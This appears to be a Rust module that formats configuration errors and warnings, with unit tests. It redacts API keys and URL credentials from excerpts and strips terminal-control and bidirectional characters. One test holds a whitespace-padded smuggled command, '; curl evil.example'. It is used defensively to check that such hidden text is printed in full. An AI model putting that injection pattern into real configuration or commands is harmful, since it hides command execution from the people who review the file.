//! Errors and warnings about a configuration: where, what is wrong, and what to try.
//!
//! Owns the form of a message. It does not decide what is an error, and never shows a secret that is
//! in a file by mistake.

use std::fmt;
use std::path::{Path, PathBuf};

use serde::Serialize;

use super::position::Position;

/// Longest excerpt of a line, in characters.
const MAX_EXCERPT: usize = 120;

/// One error or warning at one position.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Diagnostic {
    /// Where the value comes from.
    pub origin: DiagnosticOrigin,
    /// Line and column, if the value is in a file.
    #[serde(flatten)]
    pub place: Option<Position>,
    /// The line itself, safe to print, with secrets hidden.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub excerpt: Option<String>,
    /// What is wrong.
    pub message: String,
    /// What to try.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub help: Option<String>,
}

/// The source of the value that a diagnostic is about.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub enum DiagnosticOrigin {
    /// A file or directory; relative to the project if it is inside.
    File(PathBuf),
    /// An environment variable.
    Environment(String),
    /// A command line flag.
    Flag(String),
}

impl Diagnostic {
    /// A diagnostic about a whole file or directory.
    pub(crate) fn of_file(path: &Path, message: impl Into<String>, help: Option<String>) -> Self {
        Self {
            origin: DiagnosticOrigin::File(path.to_owned()),
            place: None,
            excerpt: None,
            message: message.into(),
            help,
        }
    }

    /// A diagnostic about a position in a file; `line` is the text of that line.
    pub(super) fn at(
        path: &Path,
        line: &str,
        place: Position,
        message: impl Into<String>,
        help: Option<String>,
    ) -> Self {
        Self {
            place: Some(place),
            excerpt: Some(excerpt(line)).filter(|line| !line.trim().is_empty()),
            ..Self::of_file(path, message, help)
        }
    }

    pub(super) fn of_environment(name: &str, message: impl Into<String>, help: Option<String>) -> Self {
        let origin = DiagnosticOrigin::Environment(name.to_owned());
        Self { origin, place: None, excerpt: None, message: message.into(), help }
    }

    pub(super) fn of_flag(name: &str, message: impl Into<String>, help: Option<String>) -> Self {
        let origin = DiagnosticOrigin::Flag(name.to_owned());
        Self { origin, place: None, excerpt: None, message: message.into(), help }
    }

    /// Sorts by file and position, then variables, then flags.
    fn order(&self) -> (u8, &Path, Option<Position>) {
        match &self.origin {
            DiagnosticOrigin::File(path) => (0, path, self.place),
            DiagnosticOrigin::Environment(name) => (1, Path::new(name), None),
            DiagnosticOrigin::Flag(name) => (2, Path::new(name), None),
        }
    }
}

/// Makes a line safe to print: no control characters, bounded, and without the value of a key that names a secret.
fn excerpt(line: &str) -> String {
    let mut shown: String = line
        .trim_end()
        .chars()
        .take(MAX_EXCERPT)
        .map(|c| {
            if c == '\t' {
                ' '
            } else if is_harmless(c) {
                c
            } else {
                '\u{fffd}'
            }
        })
        .collect();
    if line.trim_end().chars().count() > MAX_EXCERPT {
        shown.push('…');
    }
    if let Some(colon) = shown.find([':', '=']) {
        let key = shown[..colon].to_lowercase().replace(['_', '-'], "");
        let secret =
            ["apikey", "secret", "password", "authtoken", "accesstoken"].iter().any(|s| key.contains(s));
        if secret && !shown[colon + 1..].trim().is_empty() {
            shown.truncate(colon + 1);
            shown.push_str(" [hidden]");
        }
    }
    // Credentials in an address are everything between the scheme and the last `@` of the authority.
    if let Some(scheme) = shown.find("://") {
        let start = scheme + 3;
        let end = shown[start..].find(['/', ' ', '"', '\'']).map_or(shown.len(), |at| start + at);
        if let Some(at) = shown[start..end].rfind('@') {
            shown.replace_range(start..start + at, "[hidden]");
        }
    }
    shown
}

/// Whether `c` is neither a control character nor one that reorders or hides text on a terminal.
fn is_harmless(c: char) -> bool {
    !c.is_control()
        && !matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

/// Text from a file, made safe to print in a message.
pub(super) fn printable(text: &str) -> String {
    rawko_core::text::truncate(&whole(text), 80)
}

/// The whole text from a file, safe to print on one line: nothing is hidden from who decides about it.
pub(super) fn whole(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' => shown.push_str("\\n"),
            '\t' => shown.push_str("\\t"),
            c if is_harmless(c) => shown.push(c),
            _ => shown.push('\u{fffd}'),
        }
    }
    shown
}

impl fmt::Display for Diagnostic {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.message)?;
        let gutter = self.place.map_or(1, |place| place.line.to_string().len());
        let pad = " ".repeat(gutter);
        match (&self.origin, self.place) {
            (DiagnosticOrigin::File(path), Some(place)) => {
                write!(f, "\n{pad}--> {}:{}:{}", path.display(), place.line, place.column)?;
            }
            (DiagnosticOrigin::File(path), None) => write!(f, "\n{pad}--> {}", path.display())?,
            (DiagnosticOrigin::Environment(name), _) => write!(f, "\n{pad}--> environment variable {name}")?,
            (DiagnosticOrigin::Flag(name), _) => write!(f, "\n{pad}--> option {name}")?,
        }
        if let (Some(place), Some(excerpt)) = (self.place, &self.excerpt) {
            write!(f, "\n{pad} |\n{} | {excerpt}", place.line)?;
            let room = excerpt.chars().count();
            if place.column <= room {
                let width = place.width.min(room + 1 - place.column);
                write!(f, "\n{pad} | {}{}", " ".repeat(place.column - 1), "^".repeat(width))?;
            }
        }
        if let Some(help) = &self.help {
            write!(f, "\n{pad} = help: {help}")?;
        }
        Ok(())
    }
}

/// All errors of a configuration. Nothing runs until all of them are fixed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, thiserror::Error)]
pub struct ConfigErrors {
    /// The errors, by file and line.
    pub errors: Vec<Diagnostic>,
}

impl ConfigErrors {
    pub(super) fn new(mut errors: Vec<Diagnostic>) -> Self {
        errors.sort_by(|a, b| a.order().cmp(&b.order()));
        errors.dedup();
        Self { errors }
    }
}

impl fmt::Display for ConfigErrors {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for error in &self.errors {
            writeln!(f, "error: {error}\n")?;
        }
        match self.errors.len() {
            1 => write!(f, "the configuration has 1 error; nothing was run"),
            n => write!(f, "the configuration has {n} errors; nothing was run"),
        }
    }
}

/// Formats a JSON pointer as a dotted path: `constraints.maxIterations`, `tools[0].name`.
pub(super) fn dotted(pointer: &str) -> String {
    let mut path = String::new();
    for part in pointer.split('/').skip(1) {
        let part = part.replace("~1", "/").replace("~0", "~");
        if part.bytes().all(|b| b.is_ascii_digit()) && !part.is_empty() {
            path.push_str(&format!("[{part}]"));
        } else {
            if !path.is_empty() {
                path.push('.');
            }
            path.push_str(&printable(&part));
        }
    }
    path
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(line: &str, expected: &str) {
        assert_eq!(excerpt(line), expected);
    }

    #[test]
    fn lines_are_shown_without_secrets_and_without_tricks() {
        check("model: x", "model: x");
        check("  apiKey: sk-1234", "  apiKey: [hidden]");
        check("  apiKeyEnv: sk-1234", "  apiKeyEnv: [hidden]");
        check("maxTokens: ten", "maxTokens: ten");
        check("baseUrl: http://me:hunter2@host/v1", "baseUrl: http://[hidden]@host/v1");
        check("a: \u{1b}[31m\u{202e}x", "a: \u{fffd}[31m\u{fffd}x");
        assert_eq!(excerpt(&"x".repeat(500)).chars().count(), MAX_EXCERPT + 1);
    }

    #[test]
    fn what_is_to_be_trusted_is_shown_whole() {
        let long = format!("true{}; curl evil.example", " ".repeat(500));
        assert_eq!(whole(&long), long);
        assert_eq!(whole("a\nb\u{1b}[8m"), "a\\nb\u{fffd}[8m");
    }

    #[test]
    fn a_place_beyond_the_line_draws_no_caret() {
        let place = Position { line: 1, column: 50, width: 3 };
        let shown = Diagnostic::at(Path::new("a.yaml"), "short", place, "m", None).to_string();
        assert!(!shown.contains('^'), "{shown}");
    }
}
